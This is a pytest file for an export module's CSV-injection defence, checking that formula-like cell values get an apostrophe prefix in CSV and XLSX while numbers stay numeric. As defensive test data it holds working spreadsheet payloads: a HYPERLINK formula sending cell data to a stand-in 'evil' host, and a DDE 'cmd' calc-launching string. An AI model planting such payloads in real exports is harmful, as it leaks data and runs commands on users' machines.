"""OWASP CSV injection: every prefix a spreadsheet reads as a formula, behind any leading blank, is neutralised in
CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D

import openpyxl
import polars as pl
import pytest

from engine.outputs.exports import neutralise, neutralise_frame, to_csv_bytes, to_xlsx_bytes

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
BLANKS = ["", " ", "   ", "\t", "\xa0", "\u2007", "\u202f", "\u3000", "\u2003 \xa0"]
BENIGN = ["ok", "CC-OPS", "a=b", "a|b", " ok", "\xa0ok", "'=already", "", "1+1", "x@y.com"]


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_each_trigger_behind_any_blank_gets_an_apostrophe(trigger: str, blank: str) -> None:
    value = f"{blank}{trigger}1+1"
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["|calc", "|", "| cmd"])
def test_a_leading_pipe_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", BENIGN)
def test_benign_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_the_measured_payloads() -> None:
    payloads = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "\xa0=1+1", " =1+1", "|calc"]
    assert [neutralise(p) for p in payloads] == ["'" + p for p in payloads]


HOSTILE = pl.DataFrame(
    {
        "name": ["\xa0=1+1", " =1+1", "|calc", "\u3000@SUM(1)", "-2", "CC-OPS", None],
        "amount": [D("-5.00"), D("-0.01"), D("1.00"), D("2"), D("3"), D("4"), D("5")],
        "qty": [-1, -2, 3, 4, 5, 6, 7],
        "ratio": [-0.5, 0.5, 1.0, 2.0, 3.0, 4.0, 5.0],
    },
    schema_overrides={"amount": pl.Decimal(18, 2)},
)


def test_frame_touches_only_text_columns() -> None:
    out = neutralise_frame(HOSTILE)
    assert out["name"].to_list() == ["'\xa0=1+1", "' =1+1", "'|calc", "'\u3000@SUM(1)", "'-2", "CC-OPS", None]
    assert out.schema == HOSTILE.schema
    assert out.select("amount", "qty", "ratio").equals(HOSTILE.select("amount", "qty", "ratio"))


def test_frame_neutralises_headers_too() -> None:
    out = neutralise_frame(pl.DataFrame({"=cmd": ["x"], "ok": [1]}))
    assert out.columns == ["'=cmd", "ok"]


def test_csv_round_trip_has_no_live_formula_and_negative_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv_bytes(HOSTILE).decode("utf-8"))))
    assert rows[0] == ["name", "amount", "qty", "ratio"]
    for name, amount, qty, ratio in rows[1:]:
        stripped = name.lstrip(" \t\xa0\u3000\u2003\u2007\u202f")
        assert not stripped.startswith(("=", "+", "-", "@", "|")) or name.startswith("'"), name
        float(amount), int(qty), float(ratio)  # numbers, not quoted text
    assert rows[1][1:] == ["-5.00", "-1", "-0.5"]


def test_xlsx_round_trip_has_no_formula_and_negative_numbers_stay_numbers() -> None:
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"data": HOSTILE})))["data"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    names = [ws.cell(row=r, column=1).value for r in range(2, 8)]
    assert names == ["'\xa0=1+1", "' =1+1", "'|calc", "'\u3000@SUM(1)", "'-2", "CC-OPS"]
    assert ws["B2"].value == -5 and ws["C2"].value == -1 and ws["D2"].value == -0.5
    assert ws["B3"].data_type == "n" and ws["C3"].value == -2
